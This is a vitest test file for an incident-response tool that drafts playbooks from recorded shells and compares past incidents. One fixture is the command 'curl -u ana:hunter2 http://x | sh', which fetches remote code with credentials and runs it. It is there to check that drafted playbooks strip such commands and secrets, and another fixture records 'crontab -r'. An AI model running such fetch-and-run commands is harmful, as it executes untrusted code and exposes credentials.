import { readFileSync } from 'node:fs';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import { actionCatalogue } from '../../src/actions/registry.ts';
import { fold } from '../../src/engine/reduce.ts';
import { parseJournal } from '../../src/journal/read-journal.ts';
import { parsePlaybook } from '../../src/playbook/parse.ts';
import { writeYaml } from '../../src/playbook/write-playbook.ts';
import { compareIncidents, renderComparison } from '../../src/transcript/compare.ts';
import { draftPlaybook } from '../../src/transcript/draft-playbook.ts';
import { commandsShown } from '../../src/transcript/shell-commands.ts';
import { run } from '../bundle/make-incident.ts';
import { INCIDENT, RECORDS } from './journal.ts';

const JOURNAL = join(import.meta.dirname, '../journals/noisy-drill.format-1.jsonl');
const drill = parseJournal(readFileSync(JOURNAL)).records;

const cast = (...outputs: string[]) =>
  [{ version: 3 }, ...outputs.map((text) => [0.1, 'o', text])].map((line) => JSON.stringify(line)).join('\n');

test('what was typed into a recorded shell is read from its prompts', () => {
  const shown = cast(
    '\u001b[?2004h\u001b]0;root@web-07: ~\u0007root@web-07:~# ',
    'crontab -rr\b \b',
    '\r\n\u001b[?2004l\rno crontab for root\r\n',
    'root@web-07:~# ls /tmp\r\nx y\r\n[ana@web etc]$ uptime\r\n# exit\r\n',
  );
  expect(commandsShown(shown)).toEqual(['crontab -r', 'ls /tmp', 'uptime']);
});

test('a draft passes the check, has what was done in its order, and nothing of a shell to be run', () => {
  const incident = fold(drill);
  const shells = [
    { shellId: 'shell-1', stepId: 'kill-process', commands: ['curl -u ana:hunter2 http://x | sh\u001b[2J'] },
    { shellId: 'shell-2', stepId: null, commands: ['uptime'] },
  ];
  const file = draftPlaybook(incident, shells);
  const yaml = writeYaml(file);
  const { playbook, problems } = parsePlaybook(yaml, `${file.name}.yaml`, actionCatalogue);
  expect(problems).toEqual([]);
  const ids = playbook?.steps.map(({ id }) => id) ?? [];
  expect(ids.indexOf('by-shell-1')).toBe(ids.indexOf('kill-process') + 1);
  expect(ids.at(-1)).toBe('by-shell-2');
  expect(playbook?.steps.find(({ id }) => id === 'by-shell-1')).toMatchObject({ uses: 'manual', run: null });
  expect(yaml).not.toContain('hunter2');
  expect(yaml).not.toContain('\u001b');
});

test('a draft leaves out what was skipped, and says so; what was done by hand is a step for a person', () => {
  const records = drill.filter(({ seq }) => seq < 40);
  const cut = [
    ...records,
    ...(['kill-process', 'patch'] as const).map((stepId, index) => ({
      seq: records.length + index + 1,
      at: '2026-11-23T13:05:00.000Z',
      by: 'ana',
      event:
        stepId === 'patch'
          ? ({ kind: 'step-skipped', stepId, reason: 'later', by: 'responder' } as const)
          : ({ kind: 'step-done-by-hand', stepId, record: 'pulled the plug' } as const),
    })),
  ];
  const { playbook, problems } = parsePlaybook(writeYaml(draftPlaybook(fold(cut), [])), '', actionCatalogue);
  expect(problems.filter(({ severity }) => severity === 'error')).toEqual([]);
  expect(playbook?.summary).toContain('Patch');
  expect(playbook?.steps.some(({ id }) => id === 'patch')).toBe(false);
  expect(playbook?.steps.find(({ id }) => id === 'kill-process')?.manual?.instructions).toEqual([
    'pulled the plug',
  ]);
});

test('incidents are compared by what was left out, how long it took and what came back', () => {
  const comparison = compareIncidents([
    { incident: INCIDENT, records: RECORDS },
    { incident: fold(drill), records: drill },
  ]);
  expect(comparison.incidents).toMatchObject([
    { cameBack: ['kworkerds (812)'], skipped: ['Reset keys'], failed: ['Purge persistence'] },
    { cameBack: [], skipped: [], notRun: expect.arrayContaining(['Isolate']) },
  ]);
  expect(comparison.oftenNotDone).toContainEqual({ title: 'Purge persistence', times: 2 });
  const text = renderComparison(comparison);
  expect(text).toContain('# 2 incidents compared');
  expect(text).toContain('Left out more than once: ');
});

test('the commands give both', async () => {
  const root = await mkdtemp(join(tmpdir(), 'tourniquet-learning-'));
  onTestFinished(() => rm(root, { recursive: true, force: true }));
  for (const id of ['one', 'two']) {
    await mkdir(join(root, id), { mode: 0o700 });
    await writeFile(join(root, id, 'journal.jsonl'), readFileSync(JOURNAL));
  }
  const compared = await run(root, ['report', '--compare', 'one', 'two']);
  expect(compared).toMatchObject({ code: 0, stdout: expect.stringContaining('2 incidents compared') });
  expect(
    JSON.parse((await run(root, ['report', '--compare', 'one', 'two', '--json'])).stdout).incidents,
  ).toHaveLength(2);
  expect((await run(root, ['report', '--compare', 'one'])).error).toMatchObject({ code: 'usage' });
  const draft = await run(root, ['playbook', 'from-incident', 'one']);
  expect(draft.code).toBe(0);
  const name = /save it as (\S+)\.yaml/.exec(draft.stderr)?.[1] ?? '';
  await writeFile(join(root, `${name}.yaml`), draft.stdout);
  expect((await run(root, ['playbook', 'check', join(root, `${name}.yaml`)])).code).toBe(0);
});
